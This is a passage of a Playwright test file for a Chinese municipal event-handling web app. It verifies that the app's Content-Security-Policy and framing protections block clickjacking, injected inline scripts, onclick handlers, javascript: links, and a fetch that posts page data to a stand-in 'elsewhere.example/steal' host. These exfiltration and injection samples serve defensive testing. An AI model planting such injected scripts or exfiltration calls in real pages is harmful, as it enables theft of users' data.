    framing = (f'<iframe name="signin" src="{base}/login"></iframe>'
               f'<iframe name="todo" src="{base}/"></iframe>')
    clerk.page.route("http://elsewhere.example/**", lambda route: route.fulfill(body=framing, content_type="text/html"))
    clerk.page.goto("http://elsewhere.example/")
    assert clerk.page.evaluate("location.origin") == "http://elsewhere.example"
    frames = {frame.name: frame for frame in clerk.page.frames if frame.name}
    assert set(frames) == {"signin", "todo"}
    for frame in frames.values():                                          # loaded (goto waits), and refused
        assert frame.url.startswith("chrome-error://"), frame.url
        assert frame.locator("input[name=username], header nav").count() == 0


def test_the_pages_run_only_the_apps_own_scripts(server, browser):
    """The Content-Security-Policy (web/headers.py): markup that slipped into a page — an inline script, an
    `onclick=`, a `javascript:` link — does not run, and a page cannot send what it shows to another site (the
    browser reports each refusal to the app, which says it in its log); the
    pages' own behaviours, wired from data attributes (web/static/ui.js), still work: 终止 asks first and a
    "no" keeps the process running, 督办's status select sends its form, 打印 prints."""
    from tests.web.client import Api
    base, app = server
    event = Api(app).report(description="占道经营")
    owner = Person(browser, base, "owner1", DESK, ARTIFACTS / "csp")
    page = owner.page
    page.route("http://elsewhere.example/**", lambda route: route.fulfill(body="{}", content_type="application/json",
                                                                           headers={"Access-Control-Allow-Origin": "*"}))
    page.goto(f"/events/{event['id']}")
    page.evaluate("""() => {
        const script = document.createElement("script");
        script.textContent = "window.__ran = 'inline script'";
        document.body.append(script);
        const button = document.createElement("button");
        button.id = "injected-button";
        button.textContent = "injected";
        button.setAttribute("onclick", "window.__ran = 'onclick'");
        document.body.append(button);
        const link = document.createElement("a");
        link.id = "injected-link";
        link.textContent = "injected";
        link.href = "javascript:window.__ran = 'javascript: link'";
        document.body.append(link);
    }""")
    page.locator("#injected-button").click()
    page.locator("#injected-link").click()
    sent = page.evaluate("""() => fetch("http://elsewhere.example/steal", {method: "POST", body: document.title})
                                    .then(() => "sent", () => "refused")""")
    assert [page.evaluate("() => window.__ran === undefined"), sent] == [True, "refused"]
    assert len(browser.refused) >= 4, browser.refused       # Chromium said each on the console (its own words)
    path = f"/events/{event['id']}"       # and the browser reported each kind to the app, which said it once
    assert sorted(browser.reports.wait_for(3)) == [
        f"the Content-Security-Policy refused http://elsewhere.example (connect-src) on {path}",
        f"the Content-Security-Policy refused inline (script-src-attr) on {path}",           # onclick=
        f"the Content-Security-Policy refused inline (script-src-elem) on {path}"]           # <script>, javascript:
    browser.refused.clear()                                        # provoked here (tests/browser/conftest.py)
    browser.reports.lines.clear()

    panel = page.get_by_test_id("administer")
    panel.get_by_label("理由").fill("误操作")
    asked = []
    page.once("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
    panel.get_by_role("button", name="终止").click()
    expect(panel.get_by_role("button", name="挂起")).to_be_visible()
    assert asked == ["终止后不能恢复，确定终止？"]
    assert Api(app).get(f"/api/events/{event['id']}", "owner1").get_json()["process"]["status"] == "running"

    city = Person(browser, base, "city1", DESK, ARTIFACTS / "csp")
    city.page.goto("/supervision")
    city.page.get_by_label("状态").select_option("all")
    city.page.wait_for_url("**/supervision?status=all")
    city.page.goto("/monthly-report")
    city.page.evaluate("() => { window.print = () => { window.__printed = true; }; }")
    city.page.get_by_role("button", name="打印 / 存为 PDF").click()
    assert city.page.evaluate("() => window.__printed === true")
